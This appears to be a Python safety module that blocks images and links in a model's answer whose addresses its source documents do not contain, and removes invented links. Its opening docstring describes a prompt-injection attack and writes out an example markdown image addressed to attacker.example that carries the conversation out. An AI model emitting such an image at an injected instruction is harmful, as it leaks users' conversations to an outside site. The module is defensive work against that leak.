"""Addresses in a model answer that its source documents do not contain.

A rendered markdown image is fetched by the reader's client without a click, so an injected instruction can
make the model write `![](https://attacker.example/?q=<the conversation>)` and leak data. An answer may only
show images whose exact address is in its context, and links to addresses of the context (or, without a
query string, to a site the context links to).
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from urllib.parse import urlsplit

from backend.safety.action_patterns import (
    HTML_IMAGE_RE,
    MARKDOWN_IMAGE_RE,
)

LINK_REMOVED = "(link removed: its address is not in your sources)"
"""What takes the place of a bare address that `neutralise_links` takes out."""
_MAX_NEUTRALISED = 50
_URL_RE = re.compile(r"(?:\bhttps?://|(?<![\w.@/])www\.)[^\s<>\"'`\]\)|]{1,2000}", re.IGNORECASE)
_TRAILING = ".,;:!?*_'\"”’»"


@dataclass(frozen=True, slots=True)
class UrlCheck:
    """The first address of an answer that is not allowed."""

    url: str
    image: bool


@dataclass(frozen=True, slots=True)
class _Key:
    host: str
    path: str
    query: str


def _key(url: str) -> _Key | None:
    url = url.strip().strip("<>").rstrip(_TRAILING)
    if url.lower().startswith("www."):
        url = "http://" + url
    elif url.startswith("//"):
        url = "http:" + url
    try:
        parts = urlsplit(url)
        host = (parts.hostname or "").rstrip(".")
        port = parts.port
    except ValueError:
        return None
    if parts.scheme.lower() not in ("http", "https") or not host:
        return None
    if port and port not in (80, 443):
        host = f"{host}:{port}"
    return _Key(host.lower(), parts.path.rstrip("/"), parts.query)


def _images(text: str) -> list[str]:
    return [m.group(1) for m in MARKDOWN_IMAGE_RE.finditer(text)] + [m.group(1) for m in HTML_IMAGE_RE.finditer(text)]


def check_urls(response: str, context_docs: list[str]) -> UrlCheck | None:
    """The first image or link in `response` that `context_docs` do not vouch for, else None."""
    allowed: set[_Key] = set()
    hosts: set[str] = set()
    for doc in context_docs:
        for url in [*_URL_RE.findall(doc), *_images(doc)]:
            if (key := _key(url)) is not None:
                allowed.add(key)
                hosts.add(key.host)
    image_keys: set[_Key] = set()
    for url in _images(response):
        key = _key(url)
        if key is None:
            continue  # relative paths and data: URIs fetch nothing from another site
        if key not in allowed:
            return UrlCheck(url, image=True)
        image_keys.add(key)
    for url in _URL_RE.findall(response):
        key = _key(url)
        if key is None or key in allowed or key in image_keys:
            continue
        if key.host in hosts and not key.query:
            continue
        return UrlCheck(url.rstrip(_TRAILING), image=False)
    return None


def _carries_data(url: str) -> bool:
    """Whether an address could carry text out of the conversation: a query, a fragment, or a long path."""
    key = _key(url)
    if key is None:
        return True
    return bool(key.query) or "#" in url or len(key.path) > 80 or any(len(s) > 40 for s in key.path.split("/"))


def neutralise_links(response: str, context_docs: list[str]) -> tuple[str, int]:
    """`response` without its links to addresses `context_docs` do not vouch for that carry no data, and how
    many were taken out: a markdown link keeps its text, a bare address gives way to `LINK_REMOVED`.

    A model invents plausible addresses ("www.halcyon.com"): such a link is a broken or misleading link, not
    a leak, and removing it keeps the answer. What `check_urls` must still block is left in place: an image
    (its client fetches it unasked) and a link whose query, fragment or long path could carry the
    conversation to another site.
    """
    removed = 0
    for _ in range(_MAX_NEUTRALISED):
        found = check_urls(response, context_docs)
        if found is None or found.image or _carries_data(found.url):
            break
        link = re.compile(r"\[([^\[\]\n]{0,200})\]\(\s*<?" + re.escape(found.url) + r"[^)\n]{0,300}\)")
        cleaned, count = link.subn(lambda m: m.group(1), response, count=1)
        if not count:
            cleaned = response.replace(found.url, LINK_REMOVED, 1)
        if cleaned == response:
            break
        response, removed = cleaned, removed + 1
    return response, removed
